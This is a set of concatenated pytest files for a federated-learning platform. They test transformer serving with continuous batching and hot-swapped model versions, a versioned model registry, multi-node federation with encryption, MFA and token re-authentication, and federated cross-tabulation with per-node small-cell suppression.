        # bounce the server
        app.stop()
        time.sleep(1.0)
        app2 = ServerApp(db_uri=db_path, jwt_secret=secret,
                         root_password="pw")
        assert app2.start(port=port) == port
        try:
            assert node._event_thread.is_alive()
            root2 = UserClient(f"http://127.0.0.1:{port}")
            root2.authenticate("root", "pw")
            task = root2.task.create(
                collaboration=collab, organizations=[oid], name="after",
                image="v6-trn://stats",
                input_=make_task_input("partial_stats"),
            )
            # generous budget: under heavy host load the first jit of the
            # stats kernel alone can take tens of seconds
            (res,) = root2.wait_for_results(task["id"], timeout=90)
            assert res["count"][0] == 4.0
        finally:
            app2.stop()
    finally:
        node.stop()
