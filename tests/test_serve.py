"""Continuous-batching serving data plane (node/serve.py) + the
block-decode attention path (ops/kernels/attention_bass.py) + the
versioned global-model registry (server /model routes).

CPU lane: the block kernel's gating and its NEG_FILL vector-pos
reference are exercised here (the resident BASS kernel itself runs
under tests/test_bass_kernels.py's hardware lane and the verify
harness); the batcher/registry/lease tests are backend-independent.
"""

import threading
import time

import numpy as np
import pytest

jax = pytest.importorskip("jax")
import jax.numpy as jnp  # noqa: E402

from vantage6_trn.models.transformer import (  # noqa: E402
    decode_step,
    generate,
    init_cache,
    init_lm_params,
    prefill_cache,
)
from vantage6_trn.node.serve import (  # noqa: E402
    ContinuousBatcher,
    GenRequest,
    RegistryModelSource,
    ServeBalancer,
    ServeLoop,
)
from vantage6_trn.ops.kernels.attention_bass import (  # noqa: E402
    decode_attention,
)


def _masked_softmax_reference(q, ks, vs, cursors):
    """Independent [B]-cursor masked-softmax decode in float64."""
    b, t, h, dh = ks.shape
    s = np.einsum("bhd,bthd->bht", np.asarray(q, np.float64),
                  np.asarray(ks, np.float64)) / np.sqrt(dh)
    for i, cur in enumerate(cursors):
        s[i, :, cur + 1:] = -np.inf
    p = np.exp(s - s.max(axis=-1, keepdims=True))
    p /= p.sum(axis=-1, keepdims=True)
    return np.einsum("bht,bthd->bhd", p, np.asarray(vs, np.float64))


# ------------------------------------------------- block-decode parity
@pytest.mark.parametrize("t_len,cursors", [
    (16, [3, 15, 0]),             # small cache, mixed occupancy
    (160, [140, 7, 127]),          # T crosses the 128-key block boundary
    (256, [255, 128, 63]),         # exactly two full blocks
])
def test_vector_pos_decode_matches_masked_softmax(t_len, cursors):
    rng = np.random.default_rng(11)
    b, h, dh = len(cursors), 2, 16
    q = jnp.asarray(rng.normal(size=(b, h, dh)).astype(np.float32))
    ks = jnp.asarray(rng.normal(size=(b, t_len, h, dh)).astype(np.float32))
    vs = jnp.asarray(rng.normal(size=(b, t_len, h, dh)).astype(np.float32))
    out = decode_attention(q, ks, vs, jnp.asarray(cursors))
    ref = _masked_softmax_reference(q, ks, vs, cursors)
    assert out.shape == (b, h, dh)
    np.testing.assert_allclose(np.asarray(out), ref, rtol=1e-5, atol=1e-5)


def test_vector_pos_empty_slot_is_finite_and_isolated():
    """Cursor −1 (empty slot) must produce finite garbage without
    perturbing the occupied rows — the batcher discards it anyway."""
    rng = np.random.default_rng(12)
    b, t, h, dh = 3, 32, 2, 8
    q = jnp.asarray(rng.normal(size=(b, h, dh)).astype(np.float32))
    ks = jnp.asarray(rng.normal(size=(b, t, h, dh)).astype(np.float32))
    vs = jnp.asarray(rng.normal(size=(b, t, h, dh)).astype(np.float32))
    mixed = np.asarray(decode_attention(q, ks, vs, jnp.asarray([5, -1, 20])))
    assert np.isfinite(mixed).all()
    ref = _masked_softmax_reference(q, ks, vs, [5, 0, 20])
    np.testing.assert_allclose(mixed[0], ref[0], rtol=1e-5, atol=1e-5)
    np.testing.assert_allclose(mixed[2], ref[2], rtol=1e-5, atol=1e-5)


def test_scalar_pos_unchanged_by_block_path():
    """The pre-existing scalar-pos contract (per-key path) survives."""
    rng = np.random.default_rng(13)
    b, t, h, dh, pos = 2, 12, 3, 8, 6
    q = jnp.asarray(rng.normal(size=(b, h, dh)).astype(np.float32))
    ks = jnp.asarray(rng.normal(size=(b, t, h, dh)).astype(np.float32))
    vs = jnp.asarray(rng.normal(size=(b, t, h, dh)).astype(np.float32))
    out = decode_attention(q, ks, vs, pos)
    ref = _masked_softmax_reference(q, ks, vs, [pos] * b)
    np.testing.assert_allclose(np.asarray(out), ref, rtol=1e-5, atol=1e-5)


# ---------------------------------------------------- bf16 slot cache
def test_bf16_cache_decode_parity():
    """bf16 K/V halves cache SBUF/HBM footprint; attention outputs stay
    within bf16 rounding of the f32 cache (logits amplify the rounding
    through the vocab projection, hence the looser bound there)."""
    vocab, d_model, n_layers, n_heads, max_len = 32, 32, 2, 4, 24
    params = init_lm_params(vocab, d_model=d_model, n_layers=n_layers,
                            n_heads=n_heads, max_len=max_len)
    rng = np.random.default_rng(14)
    toks = jnp.asarray(rng.integers(0, vocab, size=(2, 6)))

    outs = {}
    for dt in (jnp.float32, jnp.bfloat16):
        cache = init_cache(params, 2, max_len, n_layers, n_heads, dtype=dt)
        assert cache["L0.k"].dtype == dt
        logits = None
        for s in range(toks.shape[1]):
            logits, cache = decode_step(
                params, cache, s, toks[:, s],
                n_layers=n_layers, n_heads=n_heads)
        outs[dt] = np.asarray(logits)
    np.testing.assert_allclose(outs[jnp.float32], outs[jnp.bfloat16],
                               rtol=5e-2, atol=5e-2)


# ------------------------------------------------ continuous batcher
VOCAB, D_MODEL, N_LAYERS, N_HEADS, MAX_LEN = 32, 32, 2, 4, 32


def _params(seed=0):
    return init_lm_params(VOCAB, d_model=D_MODEL, n_layers=N_LAYERS,
                          n_heads=N_HEADS, max_len=MAX_LEN, seed=seed)


def _batcher(params=None, **kw):
    kw.setdefault("slots", 4)
    kw.setdefault("max_len", MAX_LEN)
    return ContinuousBatcher(params or _params(), n_layers=N_LAYERS,
                             n_heads=N_HEADS, **kw)


def test_batcher_matches_generate_exactly():
    """Ragged continuous batching must be token-for-token identical to
    the static ``generate`` scan on every stream."""
    params = _params()
    rng = np.random.default_rng(15)
    prompts = [rng.integers(0, VOCAB, size=n).astype(np.int64)
               for n in (2, 5, 3, 7, 4)]
    max_new = 6

    b = _batcher(params)
    reqs = [b.submit(GenRequest(prompt=p, max_new=max_new))
            for p in prompts]
    b.drain(timeout=300)

    for p, req in zip(prompts, reqs):
        want = np.asarray(generate(
            params, jnp.asarray(p[None, :]), max_new,
            n_layers=N_LAYERS, n_heads=N_HEADS, max_len=MAX_LEN))[0,
                                                                  len(p):]
        assert req.error is None
        assert req.tokens == list(want), (p, req.tokens, list(want))


def test_batcher_rejects_oversized_prompt():
    b = _batcher()
    req = b.submit(GenRequest(
        prompt=np.zeros(MAX_LEN + 1, np.int64), max_new=1))
    assert req.done.is_set() and req.error is not None
    assert b.load() == 0


def test_batcher_admits_beyond_slot_pool():
    """More requests than slots: later arrivals wait in the queue and
    take slots as earlier streams retire."""
    b = _batcher(slots=2)
    rng = np.random.default_rng(16)
    reqs = [b.submit(GenRequest(
        prompt=rng.integers(0, VOCAB, size=3).astype(np.int64),
        max_new=4)) for _ in range(5)]
    b.drain(timeout=300)
    assert all(len(r.tokens) == 4 and r.error is None for r in reqs)


def test_hot_swap_keeps_streams_and_changes_output():
    """A mid-flight swap must drop nothing: every stream finishes its
    full budget, post-swap tokens come from the new weights."""
    p1, p2 = _params(0), _params(1)
    rng = np.random.default_rng(17)
    prompts = [rng.integers(0, VOCAB, size=n).astype(np.int64)
               for n in (3, 4)]
    max_new = 8

    b = _batcher(p1)
    b.model_version = 1
    reqs = [b.submit(GenRequest(prompt=p, max_new=max_new))
            for p in prompts]
    for _ in range(3):
        b.step()
    b.hot_swap(p2, version=2)
    b.drain(timeout=300)

    assert all(len(r.tokens) == max_new and r.error is None for r in reqs)
    assert b.model_version == 2
    assert all(r.model_versions[-1] == 2 for r in reqs)
    # same prompts decoded purely on v1 diverge after the swap point
    b1 = _batcher(p1)
    pure = [b1.submit(GenRequest(prompt=p, max_new=max_new))
            for p in prompts]
    b1.drain(timeout=300)
    assert any(r.tokens != s.tokens for r, s in zip(reqs, pure))


def test_balancer_routes_to_least_loaded():
    b1, b2 = _batcher(slots=2), _batcher(slots=2)
    bal = ServeBalancer([b1, b2])
    rng = np.random.default_rng(18)
    for _ in range(4):
        bal.submit(GenRequest(
            prompt=rng.integers(0, VOCAB, size=3).astype(np.int64),
            max_new=2))
    assert b1.load() == b2.load() == 2


# ------------------------------------------------- lease preemption
def test_serve_loop_preempted_by_exclusive_lease():
    """An exclusive training window revokes the serve lease; the loop
    parks with streams intact, re-queues, and finishes every stream
    after the window closes."""
    from vantage6_trn.node.scheduler import CoreScheduler, LeaseRequest

    sched = CoreScheduler(1, grace_s=0.05)
    b = _batcher()
    loop = ServeLoop(b, sched, idle_sleep_s=0.001)
    rng = np.random.default_rng(19)
    reqs = [b.submit(GenRequest(
        prompt=rng.integers(0, VOCAB, size=3).astype(np.int64),
        max_new=12)) for _ in range(3)]
    loop.start()
    try:
        # let decoding get going, then take the pool exclusively
        deadline = time.monotonic() + 120
        while not any(r.tokens for r in reqs):
            time.sleep(0.01)
            assert time.monotonic() < deadline, "serving never started"
        excl = sched.request(LeaseRequest(cores=1, exclusive=True,
                                          priority=10, label="train"))
        excl.wait_granted(timeout=60)
        time.sleep(0.1)  # hold the window; serving must be parked
        excl.release()
        for r in reqs:
            assert r.done.wait(120), "stream lost across preemption"
    finally:
        loop.stop()
    assert loop.preemptions >= 1
    assert all(len(r.tokens) == 12 and r.error is None for r in reqs)


# ---------------------------------------------- global-model registry
@pytest.fixture()
def registry_client():
    from vantage6_trn.client import UserClient
    from vantage6_trn.server import ServerApp

    app = ServerApp(root_password="pw", jwt_secret="t")
    port = app.start()
    client = UserClient(f"http://127.0.0.1:{port}")
    client.authenticate("root", "pw")
    oid = client.organization.create("org")["id"]
    cid = client.collaboration.create("c", [oid])["id"]
    yield client, cid
    app.stop()


def test_registry_publish_versions_and_list(registry_client):
    client, cid = registry_client
    from vantage6_trn.common.serialization import encode_binary

    for rnd in (1, 2):
        view = client.model.publish(
            cid, encode_binary({"weights": {"w": np.ones(4) * rnd}}),
            round_=rnd)
        assert view["version"] == rnd
    rows = client.model.list(collaboration_id=cid)
    assert [r["version"] for r in rows] == [1, 2]
    assert all(r["bytes"] > 0 for r in rows)


def test_registry_fetch_dense_delta_and_current(registry_client):
    client, cid = registry_client
    from vantage6_trn.common.serialization import (
        deserialize,
        encode_binary,
        remember_base,
    )

    t1 = {"weights": {"w": np.arange(16, dtype=np.float32)}}
    t2 = {"weights": {"w": np.arange(16, dtype=np.float32) + 1}}
    client.model.publish(cid, encode_binary(t1), round_=1)
    client.model.publish(cid, encode_binary(t2),
                         delta=encode_binary(t2, delta_base=t1),
                         base_version=1, round_=2)

    # no have → dense latest
    blob, hdrs = client.model.fetch_blob(cid)
    assert hdrs["X-V6-Model-Version"] == "2"
    assert "X-V6-Model-Delta-Base" not in hdrs
    np.testing.assert_array_equal(
        deserialize(blob)["weights"]["w"], t2["weights"]["w"])

    # have=1 → the delta frame, resolvable via the base registry
    remember_base(t1)
    blob, hdrs = client.model.fetch_blob(cid, have=1)
    assert hdrs["X-V6-Model-Delta-Base"] == "1"
    np.testing.assert_array_equal(
        deserialize(blob)["weights"]["w"], t2["weights"]["w"])

    # have=latest → 204, no body
    blob, _ = client.model.fetch_blob(cid, have=2)
    assert blob is None


def test_registry_model_source_poll_and_hot_swap(registry_client):
    """ModelPublisher → registry → RegistryModelSource → batcher: the
    full hot-swap feed, including the delta leg on the second poll."""
    client, cid = registry_client
    from vantage6_trn.common.rounds import ModelPublisher

    p1, p2 = _params(0), _params(1)
    pub = ModelPublisher(client, cid)
    pub(1, p1)

    src = RegistryModelSource(client, cid)
    version, params = src.poll()
    assert version == 1
    assert set(params) == set(p1)
    assert src.poll() is None  # already current

    b = _batcher(params)
    b.model_version = version
    pub(2, p2)  # second publish rides the delta frame
    update = src.poll()
    assert update is not None and update[0] == 2
    b.hot_swap(update[1], version=update[0])
    req = b.submit(GenRequest(
        prompt=np.asarray([1, 2, 3], np.int64), max_new=3))
    b.drain(timeout=300)
    assert req.error is None and len(req.tokens) == 3
    assert b.model_version == 2
    np.testing.assert_allclose(np.asarray(b.params["embed"]),
                               np.asarray(p2["embed"]))


def test_registry_route_validation(registry_client):
    client, cid = registry_client
    from vantage6_trn.common.serialization import encode_binary

    # collaboration_id is mandatory on the latest-fetch
    status, _, _ = client.raw_request("GET", "/model/latest")
    assert status == 400
    # nothing published yet → 404 surfaces as None from fetch_blob
    blob, _ = client.model.fetch_blob(cid)
    assert blob is None
    # bad base64 payload → 400
    status, _, _ = client.raw_request(
        "POST", "/model",
        headers={"Content-Type": "application/json"},
        data=__import__("json").dumps(
            {"collaboration_id": cid, "data_b64": "@@not-base64@@"}))
    assert status == 400
    # publish to a collaboration that does not exist → 404
    with pytest.raises(RuntimeError, match="404"):
        client.model.publish(999, encode_binary({"weights": {}}))
