"""End-to-end federation tests (SURVEY.md §4 rung 2: demo network —
server + N node daemons on one host, loopback HTTP, real protocol).

Covers BASELINE config #2 (5-node unencrypted federated logreg) and the
encrypted round-trip machinery used by config #3.
"""

import numpy as np
import pytest

from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.encryption import HAVE_CRYPTOGRAPHY
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.dev import DemoNetwork


def _make_datasets(n_orgs, rows=60, seed=1):
    rng = np.random.default_rng(seed)
    w_true = np.array([1.0, -1.5])
    datasets = []
    for _ in range(n_orgs):
        x = rng.normal(size=(rows, 2))
        p = 1 / (1 + np.exp(-(x @ w_true)))
        y = (rng.uniform(size=rows) < p).astype(int)
        datasets.append([Table({"f0": x[:, 0], "f1": x[:, 1], "y": y})])
    return datasets


@pytest.fixture(scope="module")
def net5():
    net = DemoNetwork(_make_datasets(5)).start()
    yield net
    net.stop()


def test_config2_federated_logreg_5_nodes(net5):
    """Config #2: central logreg task dispatched to node 0; FedAvg rounds
    fan subtasks out to all 5 nodes; researcher collects the result."""
    client = net5.researcher(0)
    task = client.task.create(
        collaboration=net5.collaboration_id,
        organizations=[net5.org_ids[0]],
        name="logreg-central",
        image="v6-trn://logreg",
        input_=make_task_input(
            "fit",
            kwargs={"features": ["f0", "f1"], "label": "y",
                    "rounds": 3, "lr": 0.5, "epochs_per_round": 15},
        ),
    )
    (result,) = client.wait_for_results(task["id"], timeout=120)
    assert result["rounds"] == 3
    w = np.asarray(result["weights"]["w"])
    assert w.shape == (2,)
    w_true = np.array([1.0, -1.5])
    cos = w @ w_true / (np.linalg.norm(w) * np.linalg.norm(w_true) + 1e-9)
    assert cos > 0.9, (w, result["history"])
    # subtasks exist: 3 rounds × 5 orgs runs under the parent job
    subtasks = client.task.list(job_id=task["id"])
    assert len(subtasks) == 1 + 3  # parent + one fan-out per round


def test_worker_only_task(net5):
    """Direct worker task to two specific nodes (no central wrapper)."""
    client = net5.researcher(0)
    task = client.task.create(
        collaboration=net5.collaboration_id,
        organizations=net5.org_ids[:2],
        name="stats",
        image="v6-trn://stats",
        input_=make_task_input("partial_stats",
                               kwargs={"columns": ["f0", "f1"]}),
    )
    results = client.wait_for_results(task["id"], timeout=60)
    assert len(results) == 2
    for r in results:
        assert r["columns"] == ["f0", "f1"]
        assert r["count"][0] == 60.0


def test_policy_rejects_unknown_image(net5):
    client = net5.researcher(0)
    task = client.task.create(
        collaboration=net5.collaboration_id,
        organizations=[net5.org_ids[1]],
        name="bad", image="v6-trn://doesnotexist",
        input_=make_task_input("whatever"),
    )
    results = client.wait_for_results(task["id"], timeout=30)
    assert results == [None]
    runs = client.run.from_task(task["id"])
    assert runs[0]["status"] == "not allowed"


def test_failed_algorithm_reports_crash(net5):
    client = net5.researcher(0)
    task = client.task.create(
        collaboration=net5.collaboration_id,
        organizations=[net5.org_ids[0]],
        name="boom", image="v6-trn://logreg",
        input_=make_task_input("no_such_method"),
    )
    client.wait_for_results(task["id"], timeout=30)
    runs = client.run.from_task(task["id"])
    assert runs[0]["status"] == "failed"
    assert "no_such_method" in (
        client.result.from_task(task["id"])[0]["log"] or ""
    )


@pytest.mark.skipif(
    not HAVE_CRYPTOGRAPHY,
    reason="encrypted collaborations need the cryptography package",
)
def test_encrypted_roundtrip():
    """Encrypted collaboration: payloads unreadable by the server,
    decrypted correctly end-to-end (machinery for config #3)."""
    net = DemoNetwork(_make_datasets(2, rows=30), encrypted=True).start()
    try:
        client = net.researcher(0)
        task = client.task.create(
            collaboration=net.collaboration_id,
            organizations=net.org_ids,
            name="enc-stats", image="v6-trn://stats",
            input_=make_task_input("partial_stats",
                                   kwargs={"columns": ["f0"]}),
        )
        results = client.wait_for_results(task["id"], timeout=60)
        assert len(results) == 2
        assert all(r["count"][0] == 30.0 for r in results)
        # server-side stored payloads are RSA-hybrid framed, not plain b64
        raw_runs = net.server.db.all(
            "SELECT input, result FROM run WHERE task_id=?", (task["id"],)
        )
        for row in raw_runs:
            assert row["input"].count("$") == 2
            assert row["result"].count("$") == 2
    finally:
        net.stop()


def test_node_reauthenticates_on_token_expiry():
    """Daemons outlive the JWT: an expired node token triggers one
    re-auth with the API key and the request is replayed."""
    import time as _time

    from vantage6_trn.server import ServerApp

    # 3 s expiry (not 1 s): the replay after re-auth must land inside a
    # fresh token's lifetime even when a loaded host stalls the suite
    # for a second
    app = ServerApp(root_password="pw", token_expiry_s=3.0)
    port = app.start()
    try:
        from vantage6_trn.client import UserClient
        from vantage6_trn.node.daemon import Node

        root = UserClient(f"http://127.0.0.1:{port}")
        root.authenticate("root", "pw")
        oid = root.organization.create(name="o")["id"]
        collab = root.collaboration.create("c", [oid])["id"]
        reg = root.node.create(collab, organization_id=oid)
        node = Node(server_url=f"http://127.0.0.1:{port}/api",
                    api_key=reg["api_key"], databases=[], name="exp-node")
        node.authenticate()
        old_token = node.token
        _time.sleep(3.3)  # token now expired
        out = node.server_request(
            "GET", "/run", params={"organization_id": oid}
        )
        assert out["data"] == []
        assert node.token != old_token  # re-authenticated transparently
    finally:
        app.stop()


def test_task_databases_label_selection():
    """task.databases labels pick which node database the algorithm sees
    (reference: per-task database selection by label)."""
    from vantage6_trn.client import UserClient
    from vantage6_trn.node.daemon import Node
    from vantage6_trn.server import ServerApp

    app = ServerApp(root_password="pw")
    port = app.start()
    try:
        root = UserClient(f"http://127.0.0.1:{port}")
        root.authenticate("root", "pw")
        oid = root.organization.create(name="o")["id"]
        collab = root.collaboration.create("c", [oid])["id"]
        reg = root.node.create(collab, organization_id=oid)
        node = Node(
            server_url=f"http://127.0.0.1:{port}/api",
            api_key=reg["api_key"],
            databases=[
                {"label": "alpha", "table": Table({"v": np.ones(3)})},
                {"label": "beta", "table": Table({"v": np.ones(7)})},
            ],
            name="multi-db",
        )
        node.start()
        try:
            t = root.task.create(
                collaboration=collab, organizations=[oid], name="b",
                image="v6-trn://stats",
                input_=make_task_input("partial_stats"),
                databases=["beta"],
            )
            (res,) = root.wait_for_results(t["id"], timeout=30)
            assert res["count"][0] == 7.0   # beta table, not alpha
            t = root.task.create(
                collaboration=collab, organizations=[oid], name="a",
                image="v6-trn://stats",
                input_=make_task_input("partial_stats"),
                databases=["alpha"],
            )
            (res,) = root.wait_for_results(t["id"], timeout=30)
            assert res["count"][0] == 3.0
            # unknown label → failed run with clear log
            t = root.task.create(
                collaboration=collab, organizations=[oid], name="x",
                image="v6-trn://stats",
                input_=make_task_input("partial_stats"),
                databases=["nope"],
            )
            root.wait_for_results(t["id"], timeout=30)
            runs = root.result.from_task(t["id"])
            assert runs[0]["status"] == "failed"
            assert "nope" in (runs[0]["log"] or "")
        finally:
            node.stop()
    finally:
        app.stop()


def test_mfa_login_via_userclient():
    from vantage6_trn.common import totp as v6totp
    from vantage6_trn.client import UserClient
    from vantage6_trn.server import ServerApp

    app = ServerApp(root_password="pw")
    port = app.start()
    try:
        c = UserClient(f"http://127.0.0.1:{port}")
        c.authenticate("root", "pw")
        setup = c.request("POST", "/user/mfa/setup")
        c.request("POST", "/user/mfa/enable",
                  json_body={"mfa_code": v6totp.totp_now(setup["otp_secret"])})
        c2 = UserClient(f"http://127.0.0.1:{port}")
        with pytest.raises(RuntimeError, match="mfa_code"):
            c2.authenticate("root", "pw")
        c2.authenticate("root", "pw",
                        mfa_code=v6totp.totp_now(setup["otp_secret"]))
        assert c2.whoami["username"] == "root"
    finally:
        app.stop()


def test_client_reauthenticates_on_expired_token():
    """A UserClient whose token expires mid-session re-authenticates
    with its stored credentials and replays the request (reference:
    ClientBase auth-retry). Stale credentials are dropped after one
    failed re-login so a polling client cannot lock the account out."""
    import time

    from vantage6_trn.client import UserClient
    from vantage6_trn.server import ServerApp

    # 3 s expiry (not 1 s): the replay after re-auth must land inside a
    # fresh token's lifetime even when a loaded host stalls the suite
    # for a second
    app = ServerApp(root_password="pw", token_expiry_s=3.0)
    port = app.start()
    try:
        c = UserClient(f"http://127.0.0.1:{port}")
        c.authenticate("root", "pw")
        c.organization.create(name="pre-expiry")
        time.sleep(3.5)  # token now expired
        # next call 401s, re-auths, replays — caller never notices
        names = [o["name"] for o in c.organization.list()]
        assert names == ["pre-expiry"]
        # a client with a bad token and NO stored creds still fails
        c2 = UserClient(f"http://127.0.0.1:{port}")
        c2.token = "garbage"
        with pytest.raises(RuntimeError, match="401"):
            c2.organization.list()
        # stale credentials: one failed re-login clears them (no
        # retry storm toward the server's login lockout)
        c3 = UserClient(f"http://127.0.0.1:{port}")
        c3.authenticate("root", "pw")
        c3._credentials = ("root", "wrong-now")
        c3.token = "expired-garbage"
        with pytest.raises(RuntimeError, match="401"):
            c3.organization.list()
        assert c3._credentials is None
    finally:
        app.stop()


def test_task_create_flood(net5):
    """Flood: many concurrent task creations against one federation —
    every run completes exactly once (claim path, event fan-out and
    worker pools under backlog; no lost or duplicated runs)."""
    import threading

    client = net5.researcher(0)
    N_THREADS, PER_THREAD = 8, 3
    ids, errors = [], []
    lock = threading.Lock()

    def spam(t):
        try:
            for i in range(PER_THREAD):
                task = client.task.create(
                    collaboration=net5.collaboration_id,
                    organizations=net5.org_ids,
                    name=f"flood-{t}-{i}", image="v6-trn://stats",
                    input_=make_task_input("partial_stats"),
                )
                with lock:
                    ids.append(task["id"])
        except Exception as e:  # noqa: BLE001 — surface in main thread
            with lock:
                errors.append(e)

    threads = [threading.Thread(target=spam, args=(t,))
               for t in range(N_THREADS)]
    for th in threads:
        th.start()
    for th in threads:
        th.join(timeout=60)
        assert not th.is_alive(), "spam thread hung"
    assert not errors, errors
    assert len(ids) == N_THREADS * PER_THREAD
    assert len(set(ids)) == len(ids), "duplicate task ids handed out"

    for tid in ids:
        results = client.wait_for_results(tid, timeout=120)
        assert len(results) == len(net5.org_ids)
        assert all(r is not None for r in results)
        statuses = [r["status"] for r in client.run.from_task(tid)]
        assert statuses == ["completed"] * len(net5.org_ids)
