"""Federated cross-tabulation (reference community v6-crosstab-py
parity): pooled-equality, label-union combining, per-node cell
suppression semantics, and the live-federation path."""

import numpy as np
import pytest

from vantage6_trn.algorithm.mock_client import MockAlgorithmClient
from vantage6_trn.algorithm.table import Table
from vantage6_trn.models import crosstab


def _tables(specs):
    return [[Table({"sex": np.asarray(s), "outcome": np.asarray(o)})]
            for s, o in specs]


def test_federated_crosstab_matches_pooled():
    rng = np.random.default_rng(0)
    specs = []
    for _ in range(3):
        s = rng.choice(["F", "M"], size=50)
        o = rng.choice(["alive", "dead", "lost"], size=50)
        specs.append((s, o))
    client = MockAlgorithmClient(datasets=_tables(specs), module=crosstab)
    res = crosstab.central_crosstab(client, row_var="sex",
                                    col_var="outcome")
    pooled_s = np.concatenate([s for s, _ in specs])
    pooled_o = np.concatenate([o for _, o in specs])
    for i, rl in enumerate(res["row_labels"]):
        for j, cl in enumerate(res["col_labels"]):
            expect = int(np.sum((pooled_s == rl) & (pooled_o == cl)))
            assert res["counts"][i, j] == expect
    assert res["n"] == 150
    assert not res["lower_bound"].any()


def test_label_union_across_disjoint_categories():
    """Categories seen at only one node still land in the combined
    table, zero-filled elsewhere."""
    specs = [(["F"] * 3, ["alive"] * 3),
             (["M"] * 2, ["dead"] * 2),
             (["X"] * 4, ["alive"] * 4)]
    client = MockAlgorithmClient(datasets=_tables(specs), module=crosstab)
    res = crosstab.central_crosstab(client, row_var="sex",
                                    col_var="outcome")
    assert res["row_labels"] == ["F", "M", "X"]
    assert res["col_labels"] == ["alive", "dead"]
    np.testing.assert_array_equal(res["counts"],
                                  [[3, 0], [0, 2], [4, 0]])


def test_min_cell_suppression_is_per_node_and_lower_bounded():
    """A cell under min_cell is censored BEFORE leaving the node; the
    combined table sums only known mass and flags the cell as a lower
    bound. Zero cells are never censored (absence identifies nobody)."""
    specs = [(["F"] * 4 + ["M"], ["alive"] * 4 + ["dead"]),
             (["F"] * 6, ["alive"] * 6)]
    client = MockAlgorithmClient(datasets=_tables(specs), module=crosstab)
    res = crosstab.central_crosstab(client, row_var="sex",
                                    col_var="outcome", min_cell=3)
    ri = res["row_labels"].index("M")
    ci = res["col_labels"].index("dead")
    # node 0's single (M, dead) row was suppressed at the node
    assert res["counts"][ri, ci] == 0
    assert res["lower_bound"][ri, ci]
    # the fat (F, alive) cell is exact: 4 + 6
    fi = res["row_labels"].index("F")
    ai = res["col_labels"].index("alive")
    assert res["counts"][fi, ai] == 10
    assert not res["lower_bound"][fi, ai]
    # the raw partial really left the node censored
    p = crosstab.partial_crosstab.__wrapped__(
        _tables(specs)[0][0], row_var="sex", col_var="outcome", min_cell=3)
    assert p["counts"][p["row_labels"].index("M"),
                       p["col_labels"].index("dead")] == crosstab.SUPPRESSED


def test_node_policy_floors_min_cell(monkeypatch):
    """The data-station admin's policies.min_cell overrides a weaker
    researcher request — via the sandbox env contract and via the
    in-process contextvar — so the researcher can't disable
    suppression on someone else's data."""
    from vantage6_trn.algorithm import policy
    from vantage6_trn.algorithm.wrap import dispatch

    t = Table({"sex": np.asarray(["F"] * 4 + ["M"]),
               "outcome": np.asarray(["alive"] * 4 + ["dead"])})
    # sandbox transport: V6_POLICY_MIN_CELL env var
    monkeypatch.setenv("V6_POLICY_MIN_CELL", "3")
    p = crosstab.partial_crosstab.__wrapped__(
        t, row_var="sex", col_var="outcome", min_cell=0)
    assert p["counts"][p["row_labels"].index("M"),
                       p["col_labels"].index("dead")] == crosstab.SUPPRESSED
    monkeypatch.delenv("V6_POLICY_MIN_CELL")
    # in-process transport: dispatch seeds the contextvar from node YAML
    out = dispatch(
        crosstab,
        {"method": "partial_crosstab",
         "kwargs": {"row_var": "sex", "col_var": "outcome", "min_cell": 0}},
        tables=[t], policies={"min_cell": 3},
    )
    assert out["counts"][out["row_labels"].index("M"),
                         out["col_labels"].index("dead")] == crosstab.SUPPRESSED
    # the contextvar does not leak past the dispatch call
    assert policy.node_policy_int("min_cell") is None
    # a stronger researcher request still wins over a weaker policy:
    # policy=2 would keep the 4-count (F, alive) cell, but the
    # researcher's min_cell=5 suppresses it
    monkeypatch.setenv("V6_POLICY_MIN_CELL", "2")
    p2 = crosstab.partial_crosstab.__wrapped__(
        t, row_var="sex", col_var="outcome", min_cell=5)
    assert p2["counts"][p2["row_labels"].index("F"),
                        p2["col_labels"].index("alive")] == crosstab.SUPPRESSED


def test_missing_values_dropped_before_counting():
    """NaN/None/empty never become 'nan' categories (reference pandas
    crosstab drops missing by default); n counts complete rows only."""
    t = Table({
        "sex": np.asarray(["F", "M", None, "F", ""], dtype=object),
        "score": np.asarray([1.0, np.nan, 2.0, 2.0, 3.0]),
    })
    p = crosstab.partial_crosstab.__wrapped__(t, row_var="sex",
                                              col_var="score")
    assert "nan" not in p["row_labels"] and "None" not in p["row_labels"]
    assert "" not in p["row_labels"] and "nan" not in p["col_labels"]
    # only rows 0 (F,1.0) and 3 (F,2.0) are complete
    assert p["row_labels"] == ["F"]
    assert sorted(p["col_labels"]) == ["1.0", "2.0"]
    assert int(np.asarray(p["counts"]).sum()) == 2


def test_central_crosstab_names_failed_workers():
    """A crashed worker (None result) raises a descriptive error naming
    the organization instead of an opaque TypeError."""
    class _FailingMock(MockAlgorithmClient):
        def wait_for_results(self, task_id, interval=0.0):
            results = super().wait_for_results(task_id, interval)
            results[1] = None  # second org's run "crashed"
            return results

    specs = [(["F"] * 3, ["alive"] * 3), (["M"] * 3, ["dead"] * 3)]
    client = _FailingMock(datasets=_tables(specs), module=crosstab)
    with pytest.raises(RuntimeError, match="failed on organization"):
        crosstab.central_crosstab(client, row_var="sex",
                                  col_var="outcome")


def test_unknown_column_raises():
    client = MockAlgorithmClient(
        datasets=_tables([(["F"], ["alive"])]), module=crosstab)
    with pytest.raises(ValueError, match="no such column"):
        crosstab.partial_crosstab.__wrapped__(
            _tables([(["F"], ["alive"])])[0][0],
            row_var="nope", col_var="outcome")


def test_crosstab_through_live_federation():
    """Full path: registry image → encrypted federation → JSON wire →
    combined table equals pooled."""
    from vantage6_trn.common.serialization import make_task_input
    from vantage6_trn.dev import DemoNetwork

    from vantage6_trn.common.encryption import HAVE_CRYPTOGRAPHY

    rng = np.random.default_rng(1)
    specs = [(rng.choice(["F", "M"], size=30),
              rng.choice(["y", "n"], size=30)) for _ in range(2)]
    # encryption is incidental here (the assertion is about the crosstab
    # combine over the wire) — keep the test running where the
    # cryptography package is absent
    net = DemoNetwork(_tables(specs), encrypted=HAVE_CRYPTOGRAPHY).start()
    try:
        client = net.researcher(0)
        task = client.task.create(
            collaboration=net.collaboration_id,
            organizations=[net.org_ids[0]],
            name="xtab", image="v6-trn://crosstab",
            input_=make_task_input(
                "central_crosstab",
                kwargs={"row_var": "sex", "col_var": "outcome"}),
        )
        (res,) = client.wait_for_results(task["id"], timeout=120)
        pooled_s = np.concatenate([s for s, _ in specs])
        pooled_o = np.concatenate([o for _, o in specs])
        assert res["n"] == 60
        for i, rl in enumerate(res["row_labels"]):
